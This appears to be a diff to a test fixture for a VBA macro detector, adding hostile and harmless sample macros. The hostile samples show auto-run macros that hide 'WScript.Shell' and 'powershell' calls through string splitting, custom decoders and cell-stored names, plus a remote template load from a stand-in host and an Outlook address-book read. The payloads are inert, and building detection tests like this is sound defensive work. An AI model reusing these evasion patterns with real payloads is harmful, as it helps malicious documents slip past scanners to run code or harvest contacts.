@@ -134,10 +134,31 @@ HOSTILE: dict[str, str] = {
     + _GO.format('mnbvcxzlkj = "cm" & "d /c ec" & "ho"\nShell mnbvcxzlkj'),
     "navigate": 'Sub WebBrowser1_DocumentComplete(ByVal a As Object, b As Variant)\nShell "mshta http://example.invalid"\nEnd Sub',
     "mouse": 'Sub Image1_MouseMove(ByVal a As Integer)\nCreateObject("WScript.Shell").Run "powershell -c 1", 0\nEnd Sub',
+    "one-line": 'Sub AutoOpen(): a = "WScr": b = "ipt.Sh": c = "ell": Set o = CreateObject(a & b & c): d = "pow": '
+    'e = "ershell": o.Run d & e & " -c 1", 0: End Sub',
+    "then": 'Sub AutoOpen()\nIf True Then a = "WScr"\nIf 1 = 1 Then b = "ipt.Shell"\n'
+    'CreateObject(a & b).Run "cmd /c echo 1"\nEnd Sub',
+    "constants": 'Public Const k1 As String = "WScr", k2 As String = "ipt.Sh", k3 As String = "ell"\n'
+    'Sub AutoOpen()\nCreateObject(k1 & k2 & k3).Run "cmd /c echo 1"\nEnd Sub',
+    "own-decoder": "Sub Document_Open()\n"
+    'Set o = CreateObject(d("WxSxcxrxixpxtx.xSxhxexlxlx"))\no.Run d("exchxo")\nEnd Sub\n'
+    "Function d(s)\nFor i = 1 To Len(s) Step 2\nd = d & Mid(s, i, 1)\nNext\nEnd Function",
+    "numbers-decoder": "Function n(a)\nFor Each x In a\nn = n & Chr(x - 7)\nNext\nEnd Function\nSub Workbook_Open()\n"
+    "p = n(Array(94, 90, 106, 121, 112, 119, 123, 53, 90, 111, 108, 115, 115))\nCreateObject(p).Run p\nEnd Sub",
+    "cell-object": 'Sub Workbook_Open()\nCreateObject(Sheets("x").Range("A1").Value).Run Range("B1").Value, 0\nEnd Sub',
+    "paragraphs": "Sub AutoOpen()\nCreateObject(ActiveDocument.Paragraphs(1).Range.Text).Run 1\nEnd Sub",
+    "template": 'Sub AutoOpen()\nActiveDocument.AttachedTemplate = "http://example.invalid/a.dotm"\nEnd Sub',
+    "address-book": 'Sub Document_Open()\nFor Each l In CreateObject("Outlook.Application").GetNamespace("MAPI").AddressLists\n'
+    "For Each e In l.AddressEntries\nMsgBox e.Address\nNext\nNext\nEnd Sub",
     "layout": 'Sub Frame1_Layout()\nShell Replace("p-o-w-e-r-s-h-e-l-l", "-", "")\nEnd Sub',
 }
 
 HARMLESS: dict[str, str] = {
+    "file-there": 'Sub Workbook_Open()\nSet f = CreateObject("Scripting.FileSystemObject")\n'
+    'If Not f.FileExists("rates.xls") Then MsgBox "Where are the rates?"\nEnd Sub',
+    "classes": 'Sub Workbook_Open()\nids = Array("MSXML2.DOMDocument.6.0", "MSXML2.DOMDocument")\nFor i = 0 To 1\n'
+    "Set h = CreateObject(ids(i))\nNext\nEnd Sub",
+    "late": 'Function App(s)\nSet App = CreateObject(s)\nEnd Function\nSub Workbook_Open()\nSet a = App("Word.Application")\nEnd Sub',
     "sort": 'Sub SortIt()\nRange("A1:C99").Sort Key1:=Range("A1"), Order1:=xlAscending\nEnd Sub',
     "print": "Private Sub Workbook_BeforePrint(Cancel As Boolean)\nActiveSheet.PageSetup.LeftFooter = Now\nEnd Sub",
     "chart": "Sub Chart()\nActiveSheet.Shapes.AddChart2(201, xlColumnClustered).Select\nEnd Sub",
